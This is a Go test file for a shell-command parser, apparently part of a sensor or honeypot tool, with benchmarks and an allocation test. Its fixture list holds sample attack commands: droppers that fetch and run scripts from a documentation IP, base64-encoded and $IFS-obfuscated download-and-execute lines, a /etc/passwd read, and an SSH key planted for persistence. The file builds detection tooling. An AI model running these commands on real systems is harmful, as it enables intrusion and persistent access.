package shell

import "testing"

// realistic are commands as sensors see them: short ones mostly, chains, and those that hide something.
var realistic = []struct{ name, text string }{
	{"word", `id`},
	{"plain", `cat /proc/cpuinfo | grep name | wc -l`},
	{"dropper", `cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://198.51.100.7/a.sh; curl -O http://198.51.100.7/a.sh; ` +
		`chmod 777 a.sh; sh a.sh; tftp 198.51.100.7 -c get b.sh; chmod 777 b.sh; sh b.sh; rm -rf a.sh b.sh; history -c`},
	{"quoted", `find /home -name "*.log" -mtime +7 -exec rm -f {} \; ; echo "done at $(date)" >> '/var/log/cleanup log'`},
	{"wrapped", `sudo -u www nohup /bin/busybox sh -c 'cd /dev/shm; wget -q "http://198.51.100.7/a" -O .x && chmod +x .x && ./.x' > /dev/null 2>&1 &`},
	{"encoded", `echo Y2QgL3RtcDsgY3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC43L2EgfCBzaA== | base64 -d | bash`},
	{"hidden", `w\get${IFS}-q$IFS"http://198.51.100.7/a"; {cat,/etc/passwd}; x=cu;y=rl;$x$y -s example.net|sh; $'\x69\x64'`},
	{"key", `mkdir -p ~/.ssh && echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQDExampleExampleExampleExampleExampleExampleExampleExampleExample ` +
		`admin@example.net" >> ~/.ssh/authorized_keys && chmod 600 ~/.ssh/authorized_keys`},
}

func BenchmarkNormalise(b *testing.B) {
	for _, r := range realistic {
		b.Run(r.name, func(b *testing.B) {
			var p Parser
			data := []byte(r.text)
			b.SetBytes(int64(len(data)))
			b.ReportAllocs()
			for b.Loop() {
				p.Parse(data)
			}
		})
	}
}

func TestSteadyStateAllocatesNothing(t *testing.T) {
	var p Parser
	for _, r := range realistic {
		data := []byte(r.text)
		if n := testing.AllocsPerRun(100, func() { p.Parse(data) }); n > 0 {
			t.Errorf("%s: %v allocations", r.name, n)
		}
	}
}
